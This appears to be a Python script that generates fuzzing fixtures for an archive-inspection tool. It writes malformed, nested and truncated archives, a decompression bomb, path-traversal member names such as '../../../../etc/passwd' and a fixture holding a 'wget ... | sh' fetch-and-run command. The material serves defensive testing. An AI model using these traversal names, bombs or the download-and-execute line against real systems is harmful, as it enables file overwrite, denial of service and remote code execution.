#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""make-files.py DIR: files for fuzz_look: archives of each kind, whole, cut, in each other, with names that are none,
and one that unpacks to very much."""
import bz2
import gzip
import io
import lzma
import pathlib
import sys
import tarfile
import zipfile

NAMES = ["a.txt", "../../../../etc/passwd", "/etc/shadow", "nul\x01\x1b[2J", "ümlaut-\u2028", "x" * 400, "\"},{\"", ""]


def make_zip(names, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name in names:
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), b"content of it", method)
    return out.getvalue()


def make_tar(names, form=tarfile.PAX_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as t:
        for name in names:
            info = tarfile.TarInfo(name)
            info.size = 5
            t.addfile(info, io.BytesIO(b"bytes"))
    return out.getvalue()


def make_bomb():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        info = tarfile.TarInfo("zeros")
        info.size = 80 << 20
        t.addfile(info, io.BytesIO(bytes(info.size)))
        t.addfile(tarfile.TarInfo("behind"))
    return lzma.compress(out.getvalue())


def main():
    tar = make_tar(NAMES)
    files = {
        "zip": make_zip(NAMES[:7]), "stored.zip": make_zip(NAMES[:7], zipfile.ZIP_STORED),
        "many.zip": make_zip([f"member-{n}" for n in range(400)]),
        "tar": tar, "gnu.tar": make_tar(NAMES[:7], tarfile.GNU_FORMAT),
        "tar.gz": gzip.compress(tar, mtime=0), "tar.bz2": bz2.compress(tar), "tar.xz": lzma.compress(tar),
        "zip.in.tar": make_tar(["inner.zip"]), "bomb.tar.xz": make_bomb(),
        "ar": b"!<arch>\n" + b"name/           0           0     0     644     4         `\nabcd",
        "cpio": b"070701" + b"0" * 8 * 11 + b"0000000B" + b"0" * 8 + b"TRAILER!!!\0\0\0\0",
        "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(100),
        "script": b"#!/bin/sh\nwget -O- example.net/x | sh\n", "pe": b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0",
        "zeros": bytes(16384), "7z": b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(24), "rar": b"Rar!\x1a\x07\x01\0" + bytes(32), "empty": b"",
    }
    to = pathlib.Path(sys.argv[1])
    to.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (to / name).write_bytes(content)
        if len(content) > 200 and len(content) < 20000:
            (to / f"{name}.cut").write_bytes(content[:len(content) * 2 // 3])


main()
